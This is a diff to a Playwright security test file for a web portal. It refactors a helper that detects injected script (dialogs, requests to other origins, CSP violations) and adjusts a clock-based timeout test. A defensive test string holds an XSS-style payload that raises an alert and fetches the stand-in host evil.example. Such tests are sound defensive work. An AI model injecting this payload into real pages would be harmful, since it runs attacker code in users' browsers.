@@ -1,6 +1,7 @@
 import { expect, test, type Page, type Route } from '@playwright/test';
 import { sharedPortal } from '../portal/shared-portal';
 import type { TestPortal } from '../portal/start-portal';
+import { watchForAttacks } from './watch-for-attacks';
 
 let portal: TestPortal;
 test.beforeAll(async () => {
@@ -20,33 +21,6 @@ const answerWith = (page: Page, answer: (route: Route) => Promise<void>): Promis
 
 const json = (body: unknown) => (route: Route) =>
   route.fulfill({ contentType: 'application/json', body: JSON.stringify(body) });
-
-/** Everything that counts as having run: dialogs, requests to elsewhere, marks, reports of the security policy. */
-const watchForAttacks = async (page: Page): Promise<() => Promise<readonly string[]>> => {
-  const seen: string[] = [];
-  page.on('dialog', (dialog) => {
-    seen.push(`dialog ${dialog.message()}`);
-    void dialog.dismiss();
-  });
-  page.on('request', (request) => {
-    if (!request.url().startsWith(portal.origin) && !request.url().startsWith('data:'))
-      seen.push(`request ${request.url()}`);
-  });
-  page.on('pageerror', (error) => seen.push(`thrown ${error.message}`));
-  await page.addInitScript(() => {
-    document.addEventListener('securitypolicyviolation', (event) => {
-      const list = ((window as { violations?: string[] }).violations ??= []);
-      list.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`);
-    });
-  });
-  return async () => [
-    ...seen,
-    ...(await page.evaluate(() => {
-      const { violations = [], ran } = window as { violations?: string[]; ran?: unknown };
-      return ran === undefined ? violations : [...violations, 'a script ran'];
-    })),
-  ];
-};
 
 const RUN = 'window.ran=1;alert(1);fetch(`https://evil.example`)';
 
@@ -78,7 +52,7 @@ test('SEC-R9 D-10 INF-2 nothing of hostile content runs, asks or shows; its word
   page,
 }) => {
   test.setTimeout(120_000);
-  const attacks = await watchForAttacks(page);
+  const attacks = await watchForAttacks(page, portal.origin);
   let html = '';
   await answerWith(page, (route) => json({ page: { text_s: html } })(route));
   for (const hostile of HOSTILE) {
@@ -144,7 +118,7 @@ test('INF-2 INF-4 however the content service fails, the page says the same calm
   page,
 }) => {
   test.setTimeout(120_000);
-  const attacks = await watchForAttacks(page);
+  const attacks = await watchForAttacks(page, portal.origin);
   for (const [what, failure] of FAILURES) {
     await answerWith(page, failure);
     await page.goto(portal.origin + ADDRESS);
@@ -176,7 +150,9 @@ test('INF-2 INF-8 in German too, on every page with content; the terms stand wit
 test('INF-9 CST a service that stays silent is given up after 30 s, and an answer after that changes nothing', async ({
   page,
 }) => {
+  // Paused: a slow machine's own seconds would count, too.
   await page.clock.install();
+  await page.clock.pauseAt(Date.now() + 60_000);
   let answer: () => void = () => undefined;
   await answerWith(
     page,
